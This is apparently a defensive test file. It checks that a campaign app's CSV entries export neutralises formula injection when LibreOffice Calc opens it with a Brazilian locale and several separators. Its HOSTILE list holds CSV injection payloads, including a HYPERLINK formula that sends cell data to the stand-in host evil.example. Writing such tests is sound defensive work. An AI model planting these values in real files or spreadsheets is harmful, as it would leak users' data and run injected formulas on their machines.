// Issue 32, item 7: ces entries export opened in a real spreadsheet. LibreOffice Calc (headless,
// Debian's libreoffice-calc-nogui; .ci/run installs it) imports the CSV as a Brazilian user would
// open it, with the pt-BR locale and `;` as the list separator, and also with `,`; formula
// evaluation on (the import's most dangerous setting), then saves it as flat OpenDocument XML,
// where a formula cell carries table:formula. No cell of the export may be a formula, and with
// the file's own separator every hostile value reads back as the exported text. A control file of
// the same values written bare proves that this import does turn them into formulas. Skipped, with
// the reason, where LibreOffice is not installed.
import { parse } from 'csv-parse/sync';
import assert from 'node:assert/strict';
import { execFileSync, spawnSync } from 'node:child_process';
import { mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { EXPORT_COLUMNS } from '../../src/exports/entries-export.ts';
import { makeCampaign, runCli } from '../support/harness.ts';
import { openTestCtx, seedEntries } from '../support/seed-entries.ts';

/** Values a participant's name could hold (written to the database directly: the API trims a leading TAB or CR). */
const HOSTILE = [
  '=1+1',
  ';=1+1',
  '+1',
  '-1',
  '@x',
  '\t=1+1',
  '\r=1+1',
  '\t+1',
  'Ana;=1+1',
  'Ana,=1+1',
  'Ana; "=1+1"',
  'Ana;@SUM(A1)',
  'Ana;-2+3',
  'Ana\t=1+1',
  'Ana\n=1+1',
  'Ana =1+1',
  'Ana|=1+1',
  'Ana |@SUM(A1)',
  'Rua 1 | apto 2',
  '=HYPERLINK("https://evil.example/?d="&A1;"Clique")',
  'Rua 1; apto 2',
  'Silva, Maria',
  'a;b,c;d',
  'João "Zé" Souza',
];

const SOFFICE = ['soffice', 'libreoffice'].find((name) => spawnSync(name, ['--version'], { stdio: 'ignore' }).status === 0) ?? null;
const SKIP = SOFFICE === null ? 'LibreOffice (soffice) is not installed: apt-get install libreoffice-calc-nogui' : false;

/** LANGID of Portuguese (Brazil), the sixth token of LibreOffice's CSV filter options. */
const PT_BR = 1046;

interface Cell {
  text: string;
  formula: string | null;
  type: string | null;
}

/**
 * Imports each CSV file with LibreOffice (`separator`: an ASCII code, UTF-8, pt-BR, quoted fields
 * not forced to text, special numbers detected, formulas evaluated) and returns each sheet's rows.
 */
function openInCalc(dir: string, files: string[], separator: number): Array<Cell[][]> {
  const out = join(dir, `calc-${separator}`);
  mkdirSync(out, { recursive: true });
  // Tokens: separator, text delimiter ", charset 76 (UTF-8), first line 1, column formats (standard),
  // language, quoted field as text, detect special numbers, (3 export-only tokens), sheet, evaluate formulas.
  const options = `${separator},34,76,1,,${PT_BR},false,true,false,false,false,-1,true`;
  execFileSync(
    SOFFICE!,
    [
      '--headless',
      '--norestore',
      `-env:UserInstallation=file://${join(dir, 'lo-profile')}`,
      `--infilter=Text - txt - csv (StarCalc):${options}`,
      '--convert-to',
      'fods',
      '--outdir',
      out,
      ...files,
    ],
    { stdio: 'pipe', timeout: 300_000, env: { ...process.env, LANG: 'pt_BR.UTF-8' } },
  );
  return files.map((file) => readFods(readFileSync(join(out, file.replace(/^.*\//, '').replace(/\.csv$/, '.fods')), 'utf8')));
}

const ENTITIES: Record<string, string> = { amp: '&', lt: '<', gt: '>', quot: '"', apos: "'" };

/** The text of a cell's paragraphs: spaces, tabs and line breaks as LibreOffice writes them, entities decoded. */
function cellText(xml: string): string {
  const paragraphs = [...xml.matchAll(/<text:p(?:\s[^>]*)?(?:\/>|>([\s\S]*?)<\/text:p>)/g)].map((m) =>
    (m[1] ?? '')
      .replace(/<text:s(?:\s+text:c="(\d+)")?\s*\/>/g, (_, n: string | undefined) => ' '.repeat(Number(n ?? 1)))
      .replace(/<text:tab\s*\/>/g, '\t')
      .replace(/<text:line-break\s*\/>/g, '\n')
      .replace(/<[^>]+>/g, '')
      .replace(/&(amp|lt|gt|quot|apos);/g, (_, name: string) => ENTITIES[name])
      .replace(/&#(x?)([0-9a-fA-F]+);/g, (_, hex: string, n: string) => String.fromCodePoint(parseInt(n, hex ? 16 : 10))),
  );
  return paragraphs.join('\n');
}

/** The first sheet of a flat OpenDocument spreadsheet: rows of cells with their text, formula and value type. */
function readFods(xml: string): Cell[][] {
  const table = /<table:table\s[\s\S]*?<\/table:table>/.exec(xml)?.[0] ?? '';
  const rows: Cell[][] = [];
  for (const row of table.matchAll(/<table:table-row(\s[^>]*)?(?:\/>|>([\s\S]*?)<\/table:table-row>)/g)) {
    const cells: Cell[] = [];
    for (const cell of (row[2] ?? '').matchAll(
      /<table:(?:covered-)?table-cell(\s[^>]*?)?(?:\/>|>([\s\S]*?)<\/table:(?:covered-)?table-cell>)/g,
    )) {
      const attrs = cell[1] ?? '';
      const attr = (name: string): string | null => new RegExp(`${name}="([^"]*)"`).exec(attrs)?.[1] ?? null;
      const one = { text: cellText(cell[2] ?? ''), formula: attr('table:formula'), type: attr('office:value-type') };
      for (let i = 0; i < Number(attr('table:number-columns-repeated') ?? 1) && i < 1_000; i++) cells.push(one);
    }
    while (cells.length > 0 && cells.at(-1)!.text === '' && cells.at(-1)!.type === null) cells.pop();
    const repeat = Number(/table:number-rows-repeated="(\d+)"/.exec(row[1] ?? '')?.[1] ?? 1);
    if (cells.length > 0) for (let i = 0; i < repeat; i++) rows.push(cells);
  }
  return rows;
}

describe('entries export opened in LibreOffice Calc (pt-BR)', { skip: SKIP }, () => {
  let dir: string;
  let exported: string;
  let control: string;
  /** Both files as Calc opened them, by separator. */
  const sheets = new Map<number, { exported: Cell[][]; control: Cell[][] }>();
  const opened = (separator: number): { exported: Cell[][]; control: Cell[][] } => {
    if (!sheets.has(separator)) {
      const [e, c] = openInCalc(dir, [exported, control], separator);
      sheets.set(separator, { exported: e, control: c });
    }
    return sheets.get(separator)!;
  };

  before(async () => {
    const db = openTestCtx();
    dir = db.dir;
    const { campaign } = makeCampaign(db.ctx);
    seedEntries(db.ctx, { campaignId: campaign.id, count: HOSTILE.length, name: (i) => HOSTILE[i] });
    db.ctx.db.close();
    exported = join(dir, 'entries.csv');
    const result = await runCli(['entries', 'export', '--campaign', campaign.id, '--out', exported, '--json'], { dbPath: db.dbPath });
    assert.equal(result.code, 0, result.stderr);
    // The control: the same values as a naive export writes them, quoted only where RFC 4180 needs it.
    control = join(dir, 'control.csv');
    const quote = (v: string): string => (/[",\r\n]/.test(v) ? `"${v.replaceAll('"', '""')}"` : v);
    writeFileSync(control, HOSTILE.map((v) => `${quote(v)}\r\n`).join(''));
  });
  after(() => rmSync(dir, { recursive: true, force: true }));

  test('the control: the same values written bare are formulas once opened, with either separator', () => {
    for (const separator of [59, 44]) {
      const formulas = opened(separator)
        .control.flat()
        .map((c) => c.formula)
        .filter((f) => f !== null);
      assert.ok(formulas.includes('of:=1+1'), `separator ${separator}: ${JSON.stringify(formulas)}`);
      // Split on `;`, `;=1+1` and `Ana;=1+1` become a formula cell each.
      if (separator === 59) assert.ok(formulas.filter((f) => f === 'of:=1+1').length >= 3, JSON.stringify(formulas));
    }
  });

  test('opened with `;` (the list separator of pt-BR): no cell is a formula, and every cell is text cut from the file', () => {
    const sheet = opened(59).exported;
    const file = readFileSync(exported, 'utf8').replaceAll('\r\n', '\n').replaceAll('\r', '\n');
    assert.ok(sheet.length > HOSTILE.length, `${sheet.length} rows`);
    for (const [r, row] of sheet.entries())
      for (const [c, cell] of row.entries()) {
        const where = `row ${r + 1}, column ${c + 1}: ${JSON.stringify(cell)}`;
        assert.equal(cell.formula, null, where);
        if (cell.text === '') continue;
        assert.equal(cell.type, 'string', where);
        assert.ok(file.includes(cell.text), where);
      }
  });

  test('opened with `,` (the file’s own separator): no cell is a formula, and each hostile value reads back as the exported text', () => {
    const sheet = opened(44).exported;
    for (const [r, row] of sheet.entries())
      for (const [c, cell] of row.entries()) assert.equal(cell.formula, null, `row ${r + 1}, column ${c + 1}: ${JSON.stringify(cell)}`);
    const records: string[][] = parse(readFileSync(exported, 'utf8'));
    const column = EXPORT_COLUMNS.indexOf('full_name');
    const names = records.slice(1).map((r) => r[column]);
    // A cell holds line breaks, not a lone CR: Calc reads one as a line break.
    assert.deepEqual(
      sheet.slice(1).map((row) => row[column].text),
      names.map((n) => n.replaceAll('\r\n', '\n').replaceAll('\r', '\n')),
    );
    for (const row of sheet.slice(1)) assert.equal(row[column].type, 'string', JSON.stringify(row[column]));
    // The exported text is the stored value with an apostrophe before each formula start.
    assert.deepEqual(names.map((n) => n.replace(/^'/, '').replaceAll(/([;,| \t\r\n][\s"']*)'/g, '$1')).sort(), [...HOSTILE].sort());
  });

  // Issue 43: both import dialogs offer a space, and an "other" separator such as `|`.
  for (const [separator, name] of [
    [32, 'a space'],
    [124, '`|`'],
  ] as const)
    test(`opened with ${name} as the separator: the control has formulas, the export none`, () => {
      const { exported: sheet, control } = opened(separator);
      const formulas = control
        .flat()
        .map((c) => c.formula)
        .filter((f) => f !== null);
      assert.ok(formulas.includes('of:=1+1'), `the control: ${JSON.stringify(formulas)}`);
      for (const [r, row] of sheet.entries())
        for (const [c, cell] of row.entries()) assert.equal(cell.formula, null, `row ${r + 1}, column ${c + 1}: ${JSON.stringify(cell)}`);
    });
});
